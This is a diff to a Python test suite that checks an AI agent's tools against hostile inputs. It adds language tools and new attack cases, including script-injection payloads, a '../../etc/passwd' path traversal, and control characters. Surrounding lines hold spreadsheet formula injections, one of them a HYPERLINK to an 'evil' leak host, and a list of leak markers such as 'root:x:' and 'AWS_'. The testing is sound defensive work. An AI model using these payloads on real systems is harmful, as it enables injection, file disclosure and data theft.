@@ -19,6 +19,7 @@ from agents.parameters import Parameters, ParameterValues
 from agents.specialists import SPECIALISTS
 from agents.tools.base import Drawing, ToolContext
 from agents.tools.calculator import calculator
+from agents.tools.language.tool import base_form, conjugate, identify_language, number_in_words, transliterate
 from agents.tools.loan.tool import loan_score
 from agents.tools.plot import plot
 from agents.tools.proofreading.tool import proofread, proofreader
@@ -29,7 +30,10 @@ from tests.agents.fakes.bedrock import START, BedrockFake, says, stop, tool_use
 from tests.agents.support import LOAN, ask, called, text_at
 
 CANARY = "canary-3c1f9e"
-TOOLS = {"calculator", "plot", "run_python", "proofread", "loan_score"}
+TOOLS = {
+    "calculator", "plot", "run_python", "proofread", "loan_score", "conjugate", "base_form", "number_in_words",
+    "transliterate", "identify_language",
+}  # fmt: skip
 LEAKS = (CANARY, "root:x:", "uid=0", "AWS_", "169.254", "Traceback", 'File "/', "/proc/1")
 NUMBERS = LOAN.split(": ")[1]
 
@@ -145,6 +149,12 @@ ATTACKS: dict[str, Callable[[], Any]] = {
     "proofread: 10 MB": lambda: use(proofread, text="teh " * 2_500_000),
     "proofread: markup": lambda: use(proofread, text="teh <img src=x onerror=alert(1)> ![a](http://evil)"),
     "proofread: nested brackets": lambda: use(proofread, text="([{“" * 1200),
+    "language: 10 MB": lambda: use(identify_language, text="a " * 5_000_000),
+    "language: markup as a verb": lambda: use(conjugate, verb="<script>alert(1)</script>", language="es"),
+    "language: huge number": lambda: use(number_in_words, number="9" * 1990, language="fr"),
+    "language: deep phrase": lambda: use(number_in_words, number="cent et " * 240, language="fr"),
+    "language: path as a language": lambda: use(base_form, word="went", language="../../etc/passwd"),
+    "language: control characters": lambda: use(transliterate, text="你\x00\u202e好", to="pinyin"),
     "loan: spreadsheet formula": lambda: use(loan_score, customer="=cmd|'/C calc'!A0," + NUMBERS[3:]),
     "loan: formula with an address": lambda: use(
         loan_score, customer=NUMBERS.replace("29,", '=HYPERLINK("http://evil/?leak"),', 1)
